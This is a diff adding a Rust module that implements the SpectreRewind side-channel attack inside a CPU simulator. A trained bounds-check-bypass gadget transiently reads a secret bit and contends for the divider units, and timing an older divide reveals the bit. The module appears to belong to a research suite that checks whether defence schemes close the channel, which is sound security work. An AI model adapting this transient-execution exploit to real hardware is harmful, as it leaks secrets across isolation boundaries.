@@ -1,0 +1,142 @@
+//! SpectreRewind: a backwards-in-time channel through the non-pipelined
+//! integer divider (§2.2).
+//!
+//! A bounds-check-bypass gadget transiently reads a secret bit and, if it
+//! is set, issues a burst of divides. Those divides occupy the two
+//! Mult/Div units, delaying an **older** (committed!) divide whose
+//! operands arrive mid-burst. The attacker times the older divide: no
+//! cache state is involved, so cache-centric defences miss this channel;
+//! §4.9's strictness-ordered FU scheduling closes it.
+
+use crate::AttackOutcome;
+use ghostminion::{Machine, Scheme, SystemConfig};
+use gm_isa::{Asm, DataSegment, MemSize, Reg};
+use gm_sim::MemoryBackend;
+
+const TRAIN_CALLS: i64 = 48;
+const SIZE_ADDR: u64 = 0x0010_0000;
+const BITS: u64 = 0x0011_0000; // victim bit array; secret bit out of bounds
+const SECRET_OFF: u64 = 0x200;
+const OPERAND: u64 = 0x0012_0000; // L2-resident operand for the older divide
+const RESULT: u64 = 0x0040_0000;
+const L1_ALIAS_STRIDE: u64 = 32 * 1024;
+
+fn program(secret_bit: u8) -> gm_isa::Program {
+    assert!(secret_bit <= 1);
+    let mut a = Asm::new("spectre-rewind");
+    a.data(DataSegment::words(SIZE_ADDR, &[16]));
+    let mut bits = vec![0u8; (SECRET_OFF + 1) as usize];
+    // The victim legitimately runs the divide path for some inputs, so
+    // the burst code is warm in the instruction hierarchy.
+    bits[3] = 1;
+    bits[7] = 1;
+    bits[SECRET_OFF as usize] = secret_bit;
+    a.data(DataSegment {
+        base: BITS,
+        bytes: bits,
+    });
+    a.data(DataSegment::words(OPERAND, &[982_451_653]));
+
+    let (x, ra) = (Reg::x(10), Reg::x(1));
+    let (size, b, t) = (Reg::x(11), Reg::x(12), Reg::x(13));
+    let (i, n) = (Reg::x(14), Reg::x(15));
+    let (t0, t1, s, q, seven) = (Reg::x(16), Reg::x(17), Reg::x(18), Reg::x(19), Reg::x(20));
+
+    let gadget = a.label();
+    let main = a.label();
+    a.j(main);
+
+    // ---- victim gadget ----
+    // if (x < size) { if (bits[x]) { divide burst } }
+    a.bind(gadget);
+    a.emit(gm_isa::Inst::new(
+        gm_isa::Op::Ld(MemSize::B8),
+        size,
+        Reg::ZERO,
+        Reg::ZERO,
+        SIZE_ADDR as i64,
+    ));
+    let skip = a.label();
+    let no_divs = a.label();
+    a.bge(x, size, skip);
+    a.addi(t, x, BITS as i64);
+    a.ld_sized(MemSize::B1, b, t, 0);
+    a.beq(b, Reg::ZERO, no_divs);
+    // Divide burst: contends for the 2 Mult/Div units (12 cycles each,
+    // non-pipelined).
+    for k in 0..6u8 {
+        a.div(Reg::x(24), Reg::x(21 + (k % 3)), Reg::x(20));
+    }
+    a.bind(no_divs);
+    a.bind(skip);
+    a.jalr(Reg::ZERO, ra, 0);
+
+    a.bind(main);
+    a.li(seven, 7);
+    a.li(Reg::x(21), 1_000_003);
+    a.li(Reg::x(22), 2_000_003);
+    a.li(Reg::x(23), 3_000_017);
+    // Warm the secret line (victim's own use) and the operand line into
+    // the L2 (touch, then evict from L1 only).
+    a.li(t, (BITS + SECRET_OFF) as i64);
+    a.ld_sized(MemSize::B1, Reg::x(24), t, 0);
+    a.li(t, OPERAND as i64);
+    a.ld(Reg::x(24), t, 0);
+
+    // Train the bounds check (bits[0..16] are all zero: the burst never
+    // runs architecturally).
+    a.li(i, 0);
+    a.li(n, TRAIN_CALLS);
+    let train = a.here();
+    a.andi(x, i, 15);
+    a.jal(ra, gadget);
+    a.addi(i, i, 1);
+    a.bne(i, n, train);
+
+    // Evict OPERAND and SIZE from the L1 so both resolve via the L2:
+    // the older divide's operand arrives while the transient burst is
+    // still occupying the dividers.
+    for base in [OPERAND, SIZE_ADDR] {
+        for k in 1..=2u64 {
+            a.li(t, (base + k * L1_ALIAS_STRIDE) as i64);
+            a.ld(Reg::x(24), t, 0);
+            a.fence(); // commit each eviction before the next
+        }
+    }
+
+    // ---- the measured sequence ----
+    a.rdcycle(t0);
+    a.li(t, OPERAND as i64);
+    a.ld(s, t, 0); // L2 hit: ~22 cycles
+    a.div(q, s, seven); // the OLDER divide (program order before the call)
+    a.li(x, SECRET_OFF as i64);
+    a.jal(ra, gadget); // mispredicted: transient burst runs concurrently
+    a.xor(Reg::x(25), q, q); // consume q
+    a.fence();
+    a.rdcycle(t1);
+    a.sub(t, t1, t0);
+    a.li(Reg::x(26), RESULT as i64);
+    a.st(t, Reg::x(26), 0);
+    a.halt();
+    a.assemble()
+}
+
+fn measure(scheme: Scheme, bit: u8) -> u64 {
+    let mut m = Machine::new(scheme, SystemConfig::micro2021(), vec![program(bit)]);
+    m.run(20_000_000);
+    m.mem().read_value(RESULT, 8)
+}
+
+/// Distinguishes the planted secret bit by timing the older divide.
+/// `leaked` is true iff the two bit values are separable by more than 4
+/// cycles.
+pub fn spectre_rewind(scheme: Scheme) -> AttackOutcome {
+    let t0 = measure(scheme, 0);
+    let t1 = measure(scheme, 1);
+    let delta = t1.abs_diff(t0);
+    AttackOutcome {
+        scheme: scheme.name(),
+        leaked: delta > 4,
+        evidence: format!("older-divide time: bit0={t0} bit1={t1} (delta {delta})"),
+    }
+}
